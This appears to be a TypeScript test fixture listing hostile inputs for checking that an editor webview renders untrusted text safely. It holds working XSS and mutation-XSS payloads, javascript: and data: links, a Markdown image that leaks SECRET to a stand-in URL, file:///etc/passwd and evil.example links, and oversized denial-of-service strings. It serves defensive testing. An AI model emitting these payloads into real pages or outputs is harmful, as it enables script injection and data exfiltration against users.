/** What a model, a tool or a file may say to make a view do more than show it. Data. */

export interface Hostile {
  readonly name: string;
  readonly text: string;
  /** Is still read in an answer; unless said otherwise, the last words. */
  readonly reads?: string;
}

const U = 'http://127.0.0.1:9/leak';
const BIDI = '\u202Egnp.exe\u202C \u2066hidden\u2069 \u200Bzero\u200Dwidth\uFEFF';
/** Words that must be seen behind whatever came before. */
export const LAST = 'These are the last words.';

export const HOSTILE: readonly Hostile[] = [
  { name: 'a script', text: '<script>window.hacked = 1; alert(1)</script>', reads: '<script>window.hacked' },
  { name: 'an image that fails', text: `<img src="${U}" onerror="window.hacked = 1">`, reads: 'onerror' },
  { name: 'an SVG with a handler', text: '<svg onload="window.hacked = 1"><script>window.hacked = 2</script></svg>' },
  { name: 'an SVG that animates an address', text: '<svg><a><animate attributeName="href" values="javascript:window.hacked=1"/><text>x</text></a></svg>' },
  { name: 'a use of another file', text: `<svg><use href="${U}#x"></use><image href="${U}"/></svg>` },
  { name: 'a frame', text: `<iframe src="${U}"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>` },
  { name: 'an object and an embed', text: `<object data="${U}"></object><embed src="${U}">` },
  { name: 'a style sheet', text: `<style>@import url(${U}); * { background: url(${U}) }</style><link rel="stylesheet" href="${U}">` },
  { name: 'another base', text: `<base href="${U}/"><meta http-equiv="refresh" content="0;url=${U}">` },
  { name: 'a form', text: `<form action="${U}"><input name="q" autofocus onfocus="window.hacked=1"><button>Send</button></form>` },
  { name: 'details that open', text: '<details open ontoggle="window.hacked=1"><summary>x</summary></details>' },
  { name: 'media', text: `<video src="${U}" autoplay onerror="window.hacked=1"></video><audio src="${U}"></audio>` },
  { name: 'a comment that closes early', text: '<!--><img src=x onerror="window.hacked=1">-->' },
  { name: 'mutation in math', text: '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.hacked=1>">' },
  { name: 'mutation in noscript', text: '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>' },
  { name: 'a template', text: '<template><img src=x onerror=window.hacked=1></template><slot></slot>' },
  { name: 'a tag that is not closed', text: `<img src="${U}" alt="` },
  { name: 'a null character in a tag', text: '<scr\0ipt>window.hacked=1</scr\0ipt>' },
  { name: 'entities', text: '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;', reads: '<script>' },
  { name: 'a Markdown image', text: `![a chart](${U}.png "title")`, reads: 'a chart' },
  { name: 'an image that tells a secret', text: `![x](${U}?data=SECRET)`, reads: 'SECRET' },
  { name: 'an image in a link', text: `[![x](${U})](${U})` },
  { name: 'an image by reference', text: `![x][r]\n\n[r]: ${U}` },
  { name: 'a javascript link', text: '[click](javascript:window.hacked=1)', reads: 'javascript:' },
  { name: 'a javascript link in disguise', text: '[click](  JaVaScRiPt&colon;window.hacked=1) [b](java%0ascript:window.hacked=1) [c](\\x01javascript:window.hacked=1)' },
  { name: 'a javascript autolink', text: '<javascript:window.hacked=1> <vbscript:x> <data:text/html,x>' },
  { name: 'a data link', text: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'a data image', text: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)' },
  { name: 'links of the editor', text: '[a](command:workbench.action.terminal.new) [b](vscode://file/etc/passwd) [c](file:///etc/passwd)' },
  { name: 'a link that says another address', text: `[https://good.example](${U})`, reads: U },
  { name: 'a quote in a link', text: `[x](${U} "\\" onmouseover=\\"window.hacked=1") [y](<${U}" onclick="window.hacked=1>)` },
  { name: 'a share of another machine', text: '`\\\\evil.example\\share\\a.py:1` and `//evil.example/a.py:1` [x](//evil.example/a.py)' },
  { name: 'a path out of the folder', text: '`../../../../etc/passwd.txt:1` `C:\\Windows\\x.py:1`' },
  { name: 'mermaid', text: '```mermaid\ngraph TD\nA["<img src=x onerror=window.hacked=1>"] --> B\nclick A href "javascript:window.hacked=1"\n```', reads: 'graph TD' },
  { name: 'a language with a quote', text: '```"><img/src=x/onerror=window.hacked=1>\ncode\n```', reads: 'code' },
  { name: 'HTML as code', text: `\`\`\`html\n<script>window.hacked=1</script><img src="${U}">\n\`\`\``, reads: '<script>' },
  { name: 'a fence that is not closed', text: '```python\nprint("<script>window.hacked=1</script>")', reads: 'print(' },
  { name: 'CSS over everything', text: '<div style="position:fixed;inset:0;z-index:9999;background:red">Click here</div>', reads: 'position:fixed' },
  { name: 'classes of the view', text: '<button class="primary safe">Allow</button> <span class="hidden">x</span>', reads: 'class="primary safe"' },
  { name: 'clobbering', text: '<form id="body" name="acquireVsCodeApi"></form><a id="fimble-input" name="getElementById"></a><img name="cookie">' },
  { name: 'names of prototypes', text: '[__proto__] [constructor]\n\n[__proto__]: x\n[constructor]: y\n\n`__proto__` `toString.py:1`\n\n```__proto__\nhasOwnProperty\n```\n\n```constructor\nvalueOf\n```', reads: 'valueOf' },
  { name: 'text that turns around', text: BIDI, reads: 'hidden' },
  { name: 'escapes of a terminal', text: '\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J', reads: 'red' },
  { name: 'marks on marks', text: `Z${'\u0300\u0316\u0334'.repeat(2_000)} end` },
  { name: 'quotes in quotes', text: `${'>'.repeat(10_000)} deep`, reads: 'deep' },
  { name: 'lists in lists', text: Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- ${depth}`).join('\n'), reads: '199' },
  { name: 'brackets', text: '['.repeat(20_000) },
  { name: 'images in images', text: `${'!['.repeat(5_000)}x${'](u)'.repeat(5_000)}` },
  { name: 'stars', text: `${'*a_ '.repeat(10_000)}${'**'.repeat(5_000)}` },
  { name: 'backticks', text: Array.from({ length: 300 }, (_, size) => '`'.repeat(size + 1)).join(' x ') },
  { name: 'a wide table', text: `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n${`|${'b|'.repeat(500)}\n`.repeat(10)}` },
  { name: 'many links', text: `[a](${U}) `.repeat(3_000) },
  { name: 'many paths', text: '`src/a.py:1` '.repeat(3_000) },
  { name: 'many definitions', text: Array.from({ length: 2_000 }, (_, at) => `[r${at}]: ${U}/${at}`).join('\n') },
  { name: 'entities without an end', text: '&'.repeat(30_000) },
  { name: 'tags without an end', text: '<a '.repeat(20_000) },
  { name: 'code that is slow to colour', text: `\`\`\`js\n${'/'.repeat(5_000)}${'`${'.repeat(3_000)}\n\`\`\``, reads: '//' },
  { name: 'a line of a megabyte', text: 'x'.repeat(1_000_000), reads: 'more characters are not shown' },
  { name: 'a megabyte of lines', text: 'word <b>word</b>\n'.repeat(60_000), reads: 'more characters are not shown' },
  { name: 'half of a character', text: '\ud800 \udc00 \ufffe', reads: '' },
];
